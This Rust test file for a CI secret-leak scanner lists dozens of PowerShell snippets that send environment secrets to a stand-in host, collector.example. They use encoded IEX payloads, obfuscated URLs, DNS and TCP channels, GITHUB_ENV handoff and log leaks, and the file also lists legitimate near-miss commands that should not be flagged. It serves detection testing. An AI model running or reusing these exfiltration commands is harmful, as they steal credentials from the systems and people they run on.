//! Ways to say "send this there" in PowerShell, and what people do with it otherwise.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, at_most_exposed, found};

/// Each sends both secrets, or the one that is named, to the place that is named.
const THEFTS: &[Way] = &[
    Way {
        name: "gci whole in body",
        shell: "pwsh",
        script: r##"$e = Get-ChildItem env: | ConvertTo-Json
iwr https://collector.example/in -Method Post -Body $e"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "gci foreach percent",
        shell: "pwsh",
        script: r##"Get-ChildItem env: | ConvertTo-Json | % { iwr 'https://collector.example/in' -Method Post -Body $_ }"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "gci ForEach-Object",
        shell: "pwsh",
        script: r##"Get-ChildItem env: | ForEach-Object { iwr 'https://collector.example/in' -Method Post -Body $_.Value }"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "gci ForEach-Object unq",
        shell: "pwsh",
        script: r##"Get-ChildItem env: | ForEach-Object { iwr https://collector.example/in -Method Post -Body $_.Value }"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "string foreach",
        shell: "pwsh",
        script: r##""$env:A$env:B" | ForEach-Object { Invoke-RestMethod -Uri 'https://collector.example/in' -Method Post -Body $_ }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "array pipe foreach",
        shell: "pwsh",
        script: r##"@($env:A, $env:B) | % { irm https://collector.example/in -Method Post -Body $_ }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "comma pipe foreach",
        shell: "pwsh",
        script: r##"$env:A, $env:B | % { irm https://collector.example/in -Method Post -Body $_ }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "foreach statement",
        shell: "pwsh",
        script: r##"foreach ($v in @($env:A, $env:B)) { iwr 'https://collector.example/in' -Method Post -Body $v }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "foreach names",
        shell: "pwsh",
        script: r##"foreach ($n in 'A','B') { $v = [Environment]::GetEnvironmentVariable($n); iwr 'https://collector.example/in' -Method Post -Body $v }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "foreach names item",
        shell: "pwsh",
        script: r##"'A','B' | % { $v = (Get-Item "env:$_").Value; iwr 'https://collector.example/in' -Method Post -Body $v }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "dir env",
        shell: "pwsh",
        script: r##"dir env: | Out-String | % { iwr 'https://collector.example/in' -Method Post -Body $_ }"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex b64",
        shell: "pwsh",
        script: r##"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SW52b2tlLVJlc3RNZXRob2QgLVVyaSBodHRwczovL2NvbGxlY3Rvci5leGFtcGxlL2luIC1NZXRob2QgUG9zdCAtQm9keSAiJGVudjpBJGVudjpCIg==')))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex System. prefix",
        shell: "pwsh",
        script: r##"IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('SW52b2tlLVJlc3RNZXRob2QgLVVyaSBodHRwczovL2NvbGxlY3Rvci5leGFtcGxlL2luIC1NZXRob2QgUG9zdCAtQm9keSAiJGVudjpBJGVudjpCIg==')))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex var",
        shell: "pwsh",
        script: r##"$c=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SW52b2tlLVJlc3RNZXRob2QgLVVyaSBodHRwczovL2NvbGxlY3Rvci5leGFtcGxlL2luIC1NZXRob2QgUG9zdCAtQm9keSAiJGVudjpBJGVudjpCIg=='))
Invoke-Expression $c"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex unicode",
        shell: "pwsh",
        script: r##"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwBjAG8AbABsAGUAYwB0AG8AcgAuAGUAeABhAG0AcABsAGUALwBpAG4AIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0AQgBvAGQAeQAgACIAJABlAG4AdgA6AEEAJABlAG4AdgA6AEIAIgA=')))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "powershell enc",
        shell: "pwsh",
        script: r##"powershell -NoProfile -EncodedCommand SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwBjAG8AbABsAGUAYwB0AG8AcgAuAGUAeABhAG0AcABsAGUALwBpAG4AIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0AQgBvAGQAeQAgACIAJABlAG4AdgA6AEEAJABlAG4AdgA6AEIAIgA="##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "pwsh -enc",
        shell: "pwsh",
        script: r##"pwsh -nop -w hidden -enc SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwBjAG8AbABsAGUAYwB0AG8AcgAuAGUAeABhAG0AcABsAGUALwBpAG4AIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0AQgBvAGQAeQAgACIAJABlAG4AdgA6AEEAJABlAG4AdgA6AEIAIgA="##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "bash pwsh enc",
        shell: "bash",
        script: r##"pwsh -nop -enc SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwBjAG8AbABsAGUAYwB0AG8AcgAuAGUAeABhAG0AcABsAGUALwBpAG4AIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0AQgBvAGQAeQAgACIAJABlAG4AdgA6AEEAJABlAG4AdgA6AEIAIgA="##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex plain",
        shell: "pwsh",
        script: r##"IEX 'Invoke-RestMethod -Uri https://collector.example/in -Method Post -Body $env:A$env:B'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "iex pipe",
        shell: "pwsh",
        script: r##"'Invoke-RestMethod -Uri https://collector.example/in -Method Post -Body $env:A$env:B' | iex"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "scriptblock call",
        shell: "pwsh",
        script: r##"& { iwr 'https://collector.example/in' -Method Post -Body "$env:A$env:B" }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "scriptblock param",
        shell: "pwsh",
        script: r##"& { param($u,$d) iwr $u -Method Post -Body $d } 'https://collector.example/in' "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "function",
        shell: "pwsh",
        script: r##"function Send($x) { iwr 'https://collector.example/in' -Method Post -Body $x }
Send "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "function param block",
        shell: "pwsh",
        script: r##"function Send-It { param([string]$Uri, [string]$Data)
  Invoke-RestMethod -Method Post -Uri $Uri -Body $Data
}
Send-It -Uri 'https://collector.example/in' -Data "$env:A $env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "function args",
        shell: "pwsh",
        script: r##"function s { iwr $args[0] -Method Post -Body $args[1] }
s 'https://collector.example/in' "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "splatting",
        shell: "pwsh",
        script: r##"$p = @{ Uri = 'https://collector.example/in'; Method = 'Post'; Body = "$env:A $env:B" }
Invoke-RestMethod @p"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "splat multi",
        shell: "pwsh",
        script: r##"$params = @{
  Uri = 'https://collector.example/in'
  Method = 'POST'
  Body = (@{ a = $env:A; b = $env:B } | ConvertTo-Json)
  ContentType = 'application/json'
}
Invoke-WebRequest @params | Out-Null"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "json body",
        shell: "pwsh",
        script: r##"Invoke-RestMethod -Uri https://collector.example/in -Method Post -Body (@{a=$env:A;b=$env:B} | ConvertTo-Json) -ContentType application/json"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "webclient upload",
        shell: "pwsh",
        script: r##"$wc = New-Object System.Net.WebClient
$wc.UploadString('https://collector.example/in', "$env:A$env:B")"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "webclient one",
        shell: "pwsh",
        script: r##"(New-Object Net.WebClient).UploadString('https://collector.example/in', 'POST', $env:A + $env:B)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "webclient ctor",
        shell: "pwsh",
        script: r##"[Net.WebClient]::new().UploadString('https://collector.example/in', $env:A + $env:B)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "webclient download",
        shell: "pwsh",
        script: r##"(New-Object Net.WebClient).DownloadString("https://collector.example/in?a=$env:A&b=$env:B")"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "httpclient",
        shell: "pwsh",
        script: r##"$c = [System.Net.Http.HttpClient]::new()
$body = [System.Net.Http.StringContent]::new("$env:A$env:B")
$c.PostAsync('https://collector.example/in', $body).Result | Out-Null"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "httpclient newobj",
        shell: "pwsh",
        script: r##"$c = New-Object System.Net.Http.HttpClient
$k = New-Object System.Net.Http.StringContent("$env:A,$env:B")
$r = $c.PostAsync('https://collector.example/in', $k).GetAwaiter().GetResult()"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "webrequest",
        shell: "pwsh",
        script: r##"$r = [System.Net.WebRequest]::Create('https://collector.example/in')
$r.Method = 'POST'
$b = [Text.Encoding]::UTF8.GetBytes("$env:A$env:B")
$s = $r.GetRequestStream()
$s.Write($b, 0, $b.Length)
$s.Close()
$r.GetResponse()"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "-join",
        shell: "pwsh",
        script: r##"$u = ('https','://','collector','.example/in') -join ''
iwr $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "-join array",
        shell: "pwsh",
        script: r##"$u = -join ('https://','collector','.example','/in')
iwr -Uri $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "-f",
        shell: "pwsh",
        script: r##"$u = '{0}://{1}.{2}/in' -f 'https','collector','example'
iwr -Uri $u -Method Post -Body ('{0}-{1}' -f $env:A, $env:B)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "-replace",
        shell: "pwsh",
        script: r##"$u = 'hXXps://collector[.]example/in' -replace 'XX','tt' -replace '\[\.\]','.'
iwr -Uri $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "Replace method",
        shell: "pwsh",
        script: r##"$u = 'https://collectorQexample/in'.Replace('Q','.')
iwr -Uri $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "char array reverse",
        shell: "pwsh",
        script: r##"$a = 'ni/elpmaxe.rotcelloc//:sptth'.ToCharArray(); [array]::Reverse($a); $u = -join $a
iwr $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "index reverse",
        shell: "pwsh",
        script: r##"$u = -join ('ni/elpmaxe.rotcelloc//:sptth'[-1..-100])
iwr $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "chars",
        shell: "pwsh",
        script: r##"$u = -join [char[]](104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101)
iwr $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "concat",
        shell: "pwsh",
        script: r##"$h = 'collector' + '.' + 'example'
$u = "https://$h/in"
iwr $u -Method Post -Body ($env:A + ':' + $env:B)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "start-process curl",
        shell: "pwsh",
        script: r##"Start-Process curl -ArgumentList '-d',"$env:A$env:B",'https://collector.example/in' -Wait -NoNewWindow"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "start-process curl string",
        shell: "pwsh",
        script: r##"Start-Process -FilePath curl.exe -ArgumentList "-s -d $env:A$env:B https://collector.example/in""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "call operator",
        shell: "pwsh",
        script: r##"& curl.exe -s -X POST -d "$env:A$env:B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "call operator var",
        shell: "pwsh",
        script: r##"$c='curl'; & $c -s -d "$env:A$env:B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "curl.exe",
        shell: "pwsh",
        script: r##"curl.exe -s -d "$env:A$env:B" https://collector.example/in"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "start-job",
        shell: "pwsh",
        script: r##"Start-Job -ScriptBlock { iwr https://collector.example/in -Method Post -Body "$env:A$env:B" } | Wait-Job"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "invoke-command",
        shell: "pwsh",
        script: r##"Invoke-Command -ScriptBlock { param($x) irm https://collector.example/in -Method Post -Body $x } -ArgumentList "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "try catch",
        shell: "pwsh",
        script: r##"try { irm https://collector.example/in -Method Post -Body "$env:A$env:B" } catch { }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "if",
        shell: "pwsh",
        script: r##"if ($env:A) { irm https://collector.example/in -Method Post -Body "$env:A$env:B" }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "tobase64",
        shell: "pwsh",
        script: r##"$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("$env:A$env:B"))
iwr "https://collector.example/in?d=$b" -UseBasicParsing"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "headers",
        shell: "pwsh",
        script: r##"irm https://collector.example/in -Headers @{ 'X-A' = $env:A; 'X-B' = $env:B }"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "resolve dns",
        shell: "pwsh",
        script: r##"$h = [BitConverter]::ToString([Text.Encoding]::UTF8.GetBytes($env:A)).Replace('-','')
Resolve-DnsName "$h.collector.example""##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "dns GetHostEntry",
        shell: "pwsh",
        script: r##"[System.Net.Dns]::GetHostEntry("$env:A.collector.example")"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "tcpclient",
        shell: "pwsh",
        script: r##"$c = New-Object System.Net.Sockets.TcpClient('collector.example', 4444)
$s = $c.GetStream()
$w = New-Object System.IO.StreamWriter($s)
$w.WriteLine("$env:A $env:B")
$w.Flush()"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "file then infile",
        shell: "pwsh",
        script: r##"Set-Content -Path x.txt -Value "$env:A`n$env:B"
iwr https://collector.example/in -Method Put -InFile x.txt"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "redirect file",
        shell: "pwsh",
        script: r##""$env:A`n$env:B" > x.txt
iwr https://collector.example/in -Method Put -InFile x.txt"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "out-file",
        shell: "pwsh",
        script: r##"$env:A, $env:B | Out-File -FilePath x.txt
Invoke-RestMethod -Uri https://collector.example/in -Method Post -InFile x.txt"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "get-content",
        shell: "pwsh",
        script: r##""$env:A`n$env:B" | Set-Content x.txt
irm https://collector.example/in -Method Post -Body (Get-Content x.txt -Raw)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "ps here string",
        shell: "pwsh",
        script: r##"$b = @"
a=$env:A
b=$env:B
"@
irm https://collector.example/in -Method Post -Body $b"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "github_env",
        shell: "pwsh",
        script: r##""X=$env:A$env:B" >> $env:GITHUB_ENV"##,
        later: "      - run: curl -d \"$X\" https://collector.example/in\n",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "github_env outfile",
        shell: "pwsh",
        script: r##""X=$env:A$env:B" | Out-File -FilePath $env:GITHUB_ENV -Append"##,
        later: "      - run: curl -d \"$X\" https://collector.example/in\n",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "add-content github_env",
        shell: "pwsh",
        script: r##"Add-Content -Path $env:GITHUB_ENV -Value "X=$env:A$env:B""##,
        later: "      - run: curl -d \"$X\" https://collector.example/in\n",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "unknown host iwr",
        shell: "pwsh",
        script: r##"$u = (irm https://files.example/u.txt)
irm $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "unknown dns txt",
        shell: "pwsh",
        script: r##"$h = (Resolve-DnsName -Type TXT c.collector.example).Strings[0]
irm "https://$h/" -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "unknown get-content",
        shell: "pwsh",
        script: r##"$u = Get-Content .cfg
irm $u -Method Post -Body "$env:A$env:B""##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "write log hex",
        shell: "pwsh",
        script: r##"[BitConverter]::ToString([Text.Encoding]::UTF8.GetBytes("$env:A"))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "log spaced",
        shell: "pwsh",
        script: r##"$env:A.ToCharArray() -join ' '"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "log reverse",
        shell: "pwsh",
        script: r##"$c = $env:A.ToCharArray(); [array]::Reverse($c); Write-Host (-join $c)"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "log b64",
        shell: "pwsh",
        script: r##"Write-Host ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:A)))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "log b64 unicode",
        shell: "pwsh",
        script: r##"[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($env:A))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "log double b64",
        shell: "pwsh",
        script: r##"$x=[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:A)); [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($x))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "a method whose name is put together",
        shell: "pwsh",
        script: r##"$w = New-Object ('Net.Web' + 'Client')
$w.Headers.Add('Content-Type', 'text/plain')
$w.('Upload' + 'String')('https://collector.example/in', "$env:A $env:B")"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "a request of a COM object's",
        shell: "pwsh",
        script: r##"$x = New-Object -ComObject MSXML2.XMLHTTP
$x.open('POST', 'https://collector.example/in', $false)
$x.send("$env:A $env:B")"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
];

/// What people do with their own secrets in the same words.
const NEAR_MISSES: &[(&str, &str, &str)] = &[
    (
        "nuget push",
        "pwsh",
        r##"dotnet nuget push *.nupkg --api-key $env:A --source https://api.nuget.org/v3/index.json"##,
    ),
    (
        "azure iis",
        "pwsh",
        r##"$pw = ConvertTo-SecureString $env:A -AsPlainText -Force
$c = New-Object System.Management.Automation.PSCredential('x', $pw)
Connect-AzAccount -ServicePrincipal -Credential $c"##,
    ),
    (
        "pfx",
        "pwsh",
        r##"$b=[Convert]::FromBase64String($env:A); [IO.File]::WriteAllBytes('c.pfx',$b)
signtool sign /f c.pfx /p $env:B x.exe"##,
    ),
    (
        "github api",
        "pwsh",
        r##"Invoke-RestMethod -Uri "https://api.github.com/repos/o/r/releases" -Headers @{ Authorization = "Bearer $env:B" }"##,
    ),
    ("configured", "pwsh", r##"Invoke-RestMethod -Uri $env:HOOK -Method Post -Body 'x'"##),
];

#[test]
fn thefts_are_found() {
    for way in THEFTS {
        found(way);
    }
}

#[test]
fn ordinary_work_is_not_accused() {
    for (name, shell, script) in NEAR_MISSES {
        at_most_exposed(name, shell, script);
    }
}
